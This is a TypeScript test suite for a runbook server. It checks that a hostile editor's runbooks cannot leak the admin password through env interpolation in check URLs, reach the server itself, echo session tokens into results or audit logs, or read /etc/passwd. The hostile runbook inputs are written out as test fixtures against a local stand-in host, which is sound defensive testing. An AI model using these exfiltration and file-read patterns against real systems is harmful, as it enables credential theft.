import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encodedForms } from "../checks/secrets.ts";
import { openPgliteStore } from "../store/pglite.ts";
import type { Store } from "../store/store.ts";
import { httpCall, type HttpAnswer } from "./testing/http.ts";
import { apiFixture, PASSWORD, type ApiFixture, type Caller } from "./testing/fixture.ts";

// A hostile editor, over real HTTP against a listening server: its runbook's checks try to take
// the server's own secrets or a session, and a viewer looks everywhere results go.

const ADMIN_PASSWORD = "Adm1n-pa55word-of-the-server";
const SHOP_TOKEN = "shop-T0ken-exposed-on-purpose";

interface Seen {
  url: string;
  headers: IncomingMessage["headers"];
  body: string;
}

let store: Store;
let fx: ApiFixture;
let base: string;
let target: Server;
let targetUrl: string;
const seen: Seen[] = [];
let adminSession: { cookie: string; csrf: string };

/** The parts of API answers these tests read. */
interface Answer {
  error: { code: string; details: { diagnostics: { file: string; line: number; path: string; message: string }[] } };
  results: { check: string; outcome: string; error?: string }[];
  hash: string;
}

function http(caller: Caller, method: string, path: string, body?: unknown): Promise<HttpAnswer<Answer>> {
  return httpCall<Answer>(base, caller, method, path, body);
}

function runbook(id: string, checks: string): string {
  return `golive: 1
meta: { id: ${id}, title: Hostile ${id}, timezone: UTC }
roles:
  - { id: ops, members: [editor] }
checks:
${checks}
`;
}

beforeAll(async () => {
  target = createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString()));
    req.on("end", () => {
      seen.push({ url: req.url ?? "", headers: req.headers, body });
      if (req.url?.startsWith("/to-golive")) {
        res.writeHead(307, { location: `${base}/api/auth/login` });
        res.end();
        return;
      }
      // Hands back a real admin session, a CSRF token and the exposed secret, encoded every way.
      res.writeHead(200, {
        "content-type": "application/json",
        "set-cookie": [`golive_session=${adminSession.cookie}; Path=/; HttpOnly`, `golive_csrf=${adminSession.csrf}; Path=/`],
        authorization: `Bearer ${adminSession.cookie}`,
        "x-echo": Buffer.from(SHOP_TOKEN).toString("base64"),
      });
      res.end(JSON.stringify({
        ok: true,
        csrf_token: adminSession.csrf,
        session: { id: adminSession.cookie },
        echo: [SHOP_TOKEN.toUpperCase(), Buffer.from(`user:${SHOP_TOKEN}`).toString("base64"), Buffer.from(SHOP_TOKEN).toString("hex"), encodeURIComponent(SHOP_TOKEN), Buffer.from(SHOP_TOKEN).toString("base64url")],
        note: `cookie golive_session=${adminSession.cookie}`,
      }));
    });
  });
  await new Promise<void>((r) => target.listen(0, "127.0.0.1", r));
  targetUrl = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
  store = await openPgliteStore(undefined);
  fx = await apiFixture(store, { checkEnv: { GOLIVE_ADMIN_PASSWORD: ADMIN_PASSWORD, SHOP_TOKEN, PATH: "/usr/bin:/bin" }, checkEnvAllow: ["SHOP_*"] });
  base = await fx.app.listen({ host: "127.0.0.1", port: 0 });
  const login = await fetch(`${base}/api/auth/login`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ user: "admin", password: PASSWORD }) });
  const cookie = /golive_session=([^;]+)/.exec(login.headers.getSetCookie().join("\n"))?.[1] ?? "";
  adminSession = { cookie, csrf: ((await login.json()) as { csrf_token: string }).csrf_token };
  expect(cookie.length).toBeGreaterThan(20);
});

afterAll(async () => {
  await fx.close();
  await store.close();
  await new Promise<void>((r) => target.close(() => r()));
});

describe("a hostile editor's runbook cannot borrow the server's authority", () => {
  it("a check naming ${env:GOLIVE_ADMIN_PASSWORD} is refused at upload, located, naming the variable and the setting", async () => {
    const source = runbook("steal-env", `  - id: leak\n    kind: http\n    config: { url: "${targetUrl}/leak?p=\${env:GOLIVE_ADMIN_PASSWORD}" }`);
    const r = await http(fx.callers.editor, "POST", "/api/runbooks", { source, file: "steal.yaml" });
    expect(r.status).toBe(422);
    expect(r.json.error.code).toBe("GOLIVE_E_RUNBOOK_INVALID");
    const d = r.json.error.details.diagnostics[0];
    if (!d) throw new Error(r.text);
    expect(d).toMatchObject({ file: "steal.yaml", line: 8, path: "checks[0].config.url" });
    expect(d.message).toContain("GOLIVE_ADMIN_PASSWORD");
    expect(d.message).toContain("--check-env");
    // Not exposed is not exposed, whatever its name: a variable outside the allowlist too.
    const home = await http(fx.callers.editor, "POST", "/api/runbooks", { source: runbook("home", `  - id: home\n    kind: http\n    config: { url: "${targetUrl}/\${env:HOME}" }`) });
    expect(home.status).toBe(422);
    expect(seen.filter((s) => s.url.startsWith("/leak"))).toEqual([]);
  });

  it("a runbook stored before the rule (or by the operator) still never sends the password: the check errors naming the variable", async () => {
    const source = runbook("old", `  - id: leak\n    kind: http\n    config: { url: "${targetUrl}/leak-old", headers: { x-pass: "\${env:GOLIVE_ADMIN_PASSWORD}" } }`);
    const rb = await store.putRunbook({ source, runbookId: "old", title: "old" }, { actor: "golive:serve", at: fx.clock.now().toISOString() });
    expect((await http(fx.callers.editor, "POST", "/api/runs", { runbook: rb.hash, name: "old", id: "old-run" })).status).toBe(201);
    const run = await http(fx.callers.editor, "POST", "/api/runs/old-run/checks/run", {});
    expect(run.status).toBe(200);
    expect(run.json.results[0]).toMatchObject({ outcome: "error" });
    expect(run.json.results[0]?.error).toContain("GOLIVE_ADMIN_PASSWORD");
    expect(seen.filter((s) => s.url.startsWith("/leak-old"))).toEqual([]);
  });

  it("a check aimed at golive itself (directly or by a redirect) is refused: no session is made for it", async () => {
    const before = (await store.listAudit({ limit: 10_000 })).length;
    const source = runbook("self", [
      `  - id: login\n    kind: http\n    config: { url: "${base}/api/auth/login", method: POST, body: { user: editor, password: "${PASSWORD}" } }`,
      `  - id: via-redirect\n    kind: http\n    config: { url: "${targetUrl}/to-golive", method: POST, redirects: true, body: { user: editor, password: "${PASSWORD}" } }`,
      `  - id: localhost\n    kind: tcp\n    config: { host: localhost, port: ${new URL(base).port} }`,
    ].join("\n"));
    const up = await http(fx.callers.editor, "POST", "/api/runbooks", { source });
    expect(up.status).toBe(201);
    expect((await http(fx.callers.editor, "POST", "/api/runs", { runbook: up.json.hash, name: "self", id: "self-run" })).status).toBe(201);
    const run = await http(fx.callers.editor, "POST", "/api/runs/self-run/checks/run", {});
    const results = run.json.results;
    for (const r of results) {
      expect(r.outcome, r.check).toBe("error");
      expect(r.error, r.check).toMatch(/this golive server itself/);
    }
    expect(results).toHaveLength(3);
    const events = (await store.listAudit({ limit: 10_000 })).slice(before);
    expect(events.map((e) => e.action)).not.toContain("session.create");
  });

  it("a target handing back sessions, tokens and the exposed secret encoded: none reaches a result, the status or the audit log", async () => {
    const source = runbook("echo", `  - id: echo\n    kind: http\n    config: { url: "${targetUrl}/echo", headers: { authorization: "Bearer \${env:SHOP_TOKEN}" } }\n    conditions: ["status == 200", 'text contains "never"', 'body.note == "x"']`);
    const up = await http(fx.callers.editor, "POST", "/api/runbooks", { source });
    expect(up.status).toBe(201);
    expect((await http(fx.callers.editor, "POST", "/api/runs", { runbook: up.json.hash, name: "echo", id: "echo-run" })).status).toBe(201);
    const run = await http(fx.callers.editor, "POST", "/api/runs/echo-run/checks/run", {});
    expect(run.json.results[0]?.outcome).toBe("fail");
    // The exposed secret did reach its own target: that is what exposing it is for.
    expect(seen.find((s) => s.url === "/echo")?.headers.authorization).toBe(`Bearer ${SHOP_TOKEN}`);

    const places = [
      run.text,
      (await http(fx.callers.viewer, "GET", "/api/runs/echo-run")).text,
      (await http(fx.callers.viewer, "GET", "/api/runs/echo-run/status")).text,
      (await http(fx.callers.viewer, "GET", "/api/audit?limit=1000")).text,
      JSON.stringify(await store.listAudit({ limit: 10_000 })),
    ];
    const forbidden = [adminSession.cookie, adminSession.csrf, ADMIN_PASSWORD, ...encodedForms(SHOP_TOKEN), SHOP_TOKEN.toUpperCase()];
    for (const text of places) {
      for (const f of forbidden) expect(text.toLowerCase()).not.toContain(f.toLowerCase());
    }
    expect(places[1]).toContain("***");
  });

  it("a session read anywhere does not work: the admin's session is still only the admin's, no stored text is one", async () => {
    const audit = (await http(fx.callers.viewer, "GET", "/api/audit?limit=1000")).text;
    // Every long token-like string a viewer can read, tried as a session: none works.
    const candidates = [...new Set(audit.match(/[A-Za-z0-9_-]{32,}/g) ?? [])];
    for (const c of candidates.slice(0, 200)) {
      const r = await fetch(`${base}/api/users`, { headers: { cookie: `golive_session=${c}` } });
      expect(r.status, c).toBe(401);
    }
  });

  it("a CA file outside the folder checks may read is refused at upload, without saying whether it exists", async () => {
    const source = runbook("ca", `  - id: ca\n    kind: http\n    config: { url: "https://127.0.0.1:1/", ca: /etc/passwd }\n  - id: cwd\n    kind: command\n    config: { run: "true", cwd: /root }`);
    const r = await http(fx.callers.editor, "POST", "/api/runbooks", { source });
    expect(r.status).toBe(422);
    const messages = r.json.error.details.diagnostics.map((d) => `${d.path} ${d.message}`);
    expect(messages).toEqual([
      expect.stringMatching(/^checks\[0\]\.config\.ca checks may not read files on this server.*--check-files/),
      expect.stringMatching(/^checks\[1\]\.config\.cwd checks may not read files on this server/),
    ]);
    expect(r.text).not.toMatch(/ENOENT|EISDIR|EACCES/);
  });
});
